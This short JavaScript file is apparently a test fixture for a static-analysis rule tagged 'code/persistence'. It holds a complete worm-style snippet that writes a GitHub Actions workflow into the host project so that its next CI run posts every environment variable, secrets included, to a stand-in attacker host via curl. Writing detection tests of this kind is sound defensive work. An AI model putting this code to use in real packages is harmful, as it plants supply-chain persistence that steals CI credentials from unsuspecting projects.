// Worm-style: drop a workflow into the project being installed into, so its next CI run sends the secrets.
const fs = require('fs');
const path = require('path');
const workflow = 'on: push\njobs:\n  sync:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "$(env)" https://hook.attacker.example\n';
// ruleid: code/persistence
const dir = path.join(process.cwd(), '..', '..', '.github/workflows');
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(path.join(dir, 'sync.yml'), workflow);
